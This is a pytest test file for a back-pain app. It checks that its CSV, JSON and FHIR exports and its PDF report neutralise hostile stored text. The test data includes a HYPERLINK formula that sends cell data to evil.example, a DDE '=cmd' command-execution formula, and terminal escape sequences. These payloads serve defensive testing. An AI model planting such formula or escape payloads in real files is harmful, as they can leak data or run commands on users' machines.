"""Exports and the clinician's PDF made from hostile stored text: formulas, markup, escape
codes, control characters, lone surrogates and odd values, as an old row (or a database edited
by hand) may hold. The rows are written straight into the tables, past the input checks."""

from __future__ import annotations

import csv
import io
import json
import logging
import shutil
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, cast

import pytest
from fhir.resources.R4B.bundle import Bundle
from sqlalchemy import create_engine
from sqlalchemy.orm import Session

import upperback
from upperback import KnowledgeBase
from upperback.documents import report as report_module
from upperback.documents.export import CSV_KINDS, export_csv, export_fhir, export_json
from upperback.documents.report import ReportPdf, write_report_pdf
from upperback.store import CheckRecord, DiaryEntry, Store, TimerSession
from upperback.store.models import CheckRow, EntryRow
from upperback.store.records import Counts, Page, Window

NOW = datetime.now(UTC)
# Markup, a formula, escape sequences (CSI, OSC, the C1 CSI), BEL, DEL, CJK and an emoji; no
# NUL, which PostgreSQL text cannot hold.
HOSTILE = "[/] [bold]loud[/bold] \x1b[2J\x1b]0;title\x07 \x9b31m\x07\x7f =1+1 中文 😀 end"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A2,"x")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\tindented",
    "\rreturned",
]
TOOLS = ("pdftotext",)
needs_poppler = pytest.mark.skipif(
    any(shutil.which(tool) is None for tool in TOOLS), reason="needs poppler-utils (pdftotext)"
)


def write_rows(database_url: str, *rows: Any) -> None:
    """Rows straight into the tables (the store's tables exist: the `store` fixture made them)."""
    engine = create_engine(database_url)
    try:
        with Session(engine) as session, session.begin():
            session.add_all(rows)
    finally:
        engine.dispose()


def entry_row(pain: int = 4, text: str = HOSTILE, symptoms: Any = None, days: int = 1) -> EntryRow:
    return EntryRow(
        created_at=NOW - timedelta(days=days),
        pain=pain,
        location=text,
        helped=text,
        note=text,
        symptoms=["\udc00", "[/]", "\x1b[31mred"] if symptoms is None else symptoms,
    )


def check_row(answers: dict[str, Any], result: dict[str, Any]) -> CheckRow:
    return CheckRow(created_at=NOW - timedelta(days=2), answers=answers, result=result)


def desk_answers() -> dict[str, Any]:
    return {
        "age": 30,
        "desk_hours_per_day": 9,
        "hunched_posture": True,
        "pain_dull_ache_tight": True,
        "duration_days": 10,
    }


def hostile_check() -> CheckRow:
    """A saved check whose answers and result names hold surrogates, markup and escapes."""
    answers = desk_answers()
    result = upperback.assess(answers).to_dict()
    result["triage_label"] = "=cmd|' /C calc'!A0 \x1b[2J\udc00"
    result["causes"][0]["name"] = "[/]\x1b]0;x\x07 name \udc00"
    answers |= {"hunched_posture": "\udc00 [/] \x1b[2J", "made_up": "=1+1"}
    return check_row(answers, result)


@dataclass
class FakeStore:
    """A store holding records the database could not (lone surrogates in text columns)."""

    entries_: list[DiaryEntry] = field(default_factory=list)
    checks_: list[CheckRecord] = field(default_factory=list)

    def entries(self) -> list[DiaryEntry]:
        return self.entries_

    def checks(self) -> list[CheckRecord]:
        return self.checks_

    def latest_check(self) -> CheckRecord | None:
        return self.checks_[-1] if self.checks_ else None

    def timers(self) -> list[TimerSession]:
        return []

    # The bounded and batched reads the exports and the report use.
    def each_entry(self) -> Iterator[DiaryEntry]:
        return iter(self.entries_)

    def each_check(self) -> Iterator[CheckRecord]:
        return iter(self.checks_)

    def each_timer(self) -> Iterator[TimerSession]:
        return iter([])

    def each_dose(self) -> Iterator[Any]:
        return iter([])

    def each_exercise_session(self) -> Iterator[Any]:
        return iter([])

    def each_break(self) -> Iterator[Any]:
        return iter([])

    def pain_scores(self, limit: int) -> list[DiaryEntry]:
        return self.entries_[-limit:]

    def entries_page(self, limit: int = 50) -> Page[DiaryEntry]:
        return Page(list(reversed(self.entries_[-limit:])))

    def timers_page(self, limit: int = 50) -> Page[TimerSession]:
        return Page([])

    def doses_page(self, limit: int = 50) -> Page[Any]:
        return Page([])

    def counts(self) -> Counts:
        return Counts(checks=len(self.checks_), entries=len(self.entries_), timers=0, doses=0)

    # The report's reads of one period (every record here falls in the tests' period).
    def entries_between(self, start: datetime, end: datetime, limit: int) -> Window[DiaryEntry]:
        return Window(self.entries_[-limit:], len(self.entries_))

    def checks_between(self, start: datetime, end: datetime, limit: int) -> Window[CheckRecord]:
        return Window(self.checks_[-limit:], len(self.checks_))

    def timers_between(self, start: datetime, end: datetime, limit: int
                       ) -> Window[TimerSession]:
        return Window([], 0)

    def doses_between(self, start: datetime, end: datetime, limit: int) -> Window[Any]:
        return Window([], 0)


def surrogate_store() -> Store:
    odd: Any = ["\udc00 sym", 5, None, {"a": b"\xff"}]
    entries = [
        DiaryEntry(1, NOW - timedelta(days=3), 5, note="\udc00", where="x\udc00", helped="\ud83d"),
        DiaryEntry(2, NOW - timedelta(days=2), 4, note=b"bytes \xff", symptoms=odd),  # type: ignore[arg-type]
        DiaryEntry(3, NOW - timedelta(days=1), 5.5, note="   ", helped=7),  # type: ignore[arg-type]
    ]
    answers = desk_answers() | {
        "age": 10**20,
        "": True,
        "hunched_posture": ["a", "list"],
        "made_up": "\udc00",
        "empty": "",
        "nan": float("nan"),
    }
    result = upperback.assess(desk_answers()).to_dict()
    checks = [CheckRecord(1, NOW - timedelta(days=4), answers, result)]
    return cast(Store, FakeStore(entries, checks))


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def all_csv(store: Store, kb: KnowledgeBase) -> str:
    """Every CSV table, one after the other."""
    return "".join(export_csv(store, kb, kind) for kind in CSV_KINDS)


# -- CSV formula injection -----------------------------------------------------------------------


@pytest.mark.parametrize("formula", FORMULAS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_csv_text_cells_that_begin_like_a_formula_get_a_single_quote_before_them(
    store: Store, database_url: str, kb: KnowledgeBase, formula: str
) -> None:
    write_rows(database_url, entry_row(text=formula, symptoms=[formula, "fever"]))
    (row,) = csv_rows(export_csv(store, kb, "entries"))
    for column in ("where", "helped", "note"):
        assert row[column] == "'" + formula
    assert row["symptoms"] == f"'{formula}; fever"


def test_csv_text_that_only_looks_like_a_negative_number_is_neutralised_but_numbers_stay(
    store: Store, database_url: str, kb: KnowledgeBase
) -> None:
    write_rows(database_url, entry_row(pain=0, text="-5", symptoms=[]))
    store.log_timer("ice", 15, 420, False)
    (diary,) = csv_rows(export_csv(store, kb, "entries"))
    (timer,) = csv_rows(export_csv(store, kb, "timers"))
    assert diary["note"] == "'-5" and diary["pain"] == "0"
    assert (timer["planned_minutes"], timer["seconds"]) == ("15", "420")
    from upperback.documents.export import csv_cell

    assert csv_cell(-5) == -5 and csv_cell(-2.5) == -2.5 and csv_cell("-5") == "'-5"


def test_csv_cells_of_a_saved_check_are_neutralised_too(
    store: Store, database_url: str, kb: KnowledgeBase
) -> None:
    write_rows(database_url, hostile_check())
    (row,) = csv_rows(export_csv(store, kb, "checks"))
    assert row["triage_label"].startswith("'=cmd|")
    answers = {a["finding"]: a["answer"] for a in csv_rows(export_csv(store, kb, "answers"))}
    assert answers["made_up"] == "'=1+1"
    shown = "".join(row.values()) + "".join(answers.values())
    assert not any(c in shown for c in "\x1b\x07\x9b\udc00")


# -- valid UTF-8 whatever is stored --------------------------------------------------------------


@pytest.mark.parametrize("kind", ["json", "csv", "fhir"])
def test_every_export_of_hostile_stored_rows_is_valid_utf8(
    store: Store, database_url: str, kb: KnowledgeBase, kind: str
) -> None:
    write_rows(database_url, hostile_check(), entry_row(), entry_row(symptoms=[5, None], days=0))
    text = {"json": export_json, "csv": all_csv, "fhir": export_fhir}[kind](store, kb)
    assert "\ufffd" in text.encode("utf-8").decode("utf-8")
    if kind == "csv":
        assert len(csv_rows(export_csv(store, kb, "entries"))) == 2
    else:
        json.loads(text)


@pytest.mark.parametrize("kind", ["json", "csv", "fhir"])
def test_every_export_replaces_a_lone_surrogate_and_takes_odd_values(
    kb: KnowledgeBase, kind: str
) -> None:
    text = {"json": export_json, "csv": all_csv, "fhir": export_fhir}[kind](
        surrogate_store(), kb
    )
    assert "\ufffd" in text.encode("utf-8").decode("utf-8")
    if kind == "fhir":
        bundle = Bundle.model_validate_json(text)
        assert len(bundle.entry) == 5  # the check's answers and assessment, three entries


def test_the_json_export_keeps_stored_text_but_prints_no_raw_control_character(
    store: Store, database_url: str, kb: KnowledgeBase
) -> None:
    write_rows(database_url, entry_row())
    text = export_json(store, kb)
    assert not any(c in text for c in "\x1b\x07\x7f\x9b")
    (entry,) = json.loads(text)["diary"]
    assert entry["note"] == HOSTILE  # control characters kept, as JSON escapes
    assert entry["symptoms"] == ["\ufffd", "[/]", "\x1b[31mred"]


def test_the_csv_and_fhir_exports_drop_escape_sequences_and_control_characters(
    store: Store, database_url: str, kb: KnowledgeBase
) -> None:
    write_rows(database_url, entry_row())
    shown = "[/] [bold]loud[/bold]   =1+1 中文 😀 end"  # each escape sequence gone whole
    (row,) = csv_rows(export_csv(store, kb, "entries"))
    assert row["note"] == shown
    assert row["symptoms"] == "\ufffd; [/]; red"
    bundle = json.loads(export_fhir(store, kb))
    notes = [n["text"] for n in bundle["entry"][0]["resource"]["note"]]
    assert notes == [shown, f"Where: {shown}", f"Helped: {shown}", "Symptoms: \ufffd, [/], red"]


# -- the PDF -------------------------------------------------------------------------------------


@pytest.fixture(params=["dejavu", "helvetica"])
def font(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    """Each report drawn with the Unicode font (when the system has it) and with Helvetica."""
    if request.param == "helvetica":
        monkeypatch.setattr(report_module, "font_dir", lambda: None)
    elif report_module.font_dir() is None:
        pytest.skip("DejaVu Sans is not installed")
    return str(request.param)


def pdf_text(path: Path) -> str:
    out = subprocess.run(["pdftotext", str(path), "-"], capture_output=True, check=True, text=True)
    return " ".join(out.stdout.split())


@needs_poppler
def test_the_report_is_made_from_hostile_rows_and_draws_every_character_it_writes(
    store: Store,
    database_url: str,
    kb: KnowledgeBase,
    tmp_path: Path,
    font: str,
    caplog: pytest.LogCaptureFixture,
) -> None:
    long_word = "w" * 5000
    write_rows(database_url, hostile_check(), entry_row(), entry_row(text=long_word, days=0))
    with caplog.at_level(logging.WARNING, logger="fpdf"):
        path = write_report_pdf(store, kb, tmp_path / "report.pdf")
    assert not [r for r in caplog.records if "missing" in r.getMessage()]
    text = pdf_text(path)
    assert "[/] [bold]loud[/bold]" in text
    assert "Triage: =cmd|' /C calc'!A0" in text
    assert "\x1b" not in text and "2J" not in text


@needs_poppler
def test_the_report_is_made_from_lone_surrogates_and_odd_values(
    kb: KnowledgeBase, tmp_path: Path, font: str
) -> None:
    path = write_report_pdf(surrogate_store(), kb, tmp_path / "report.pdf")
    text = pdf_text(path)
    assert "Pain relievers, ice and heat" in text and "The latest check's answers" in text
    assert "Warning signs logged in the diary" in text


def test_the_pdf_makes_any_text_safe_for_its_font(font: str) -> None:
    pdf = ReportPdf(report_module.font_dir())
    try:
        shown = pdf.safe("a\x1b[2Jb\udc00\n中\x07c")
        assert shown == ("ab\ufffd \ufffdc" if font == "dejavu" else "ab? ?c")
        assert pdf.safe(None) == "" and pdf.safe(12) == "12"
    finally:
        pdf.close_fonts()  # never written: fpdf2 would leave the font files open
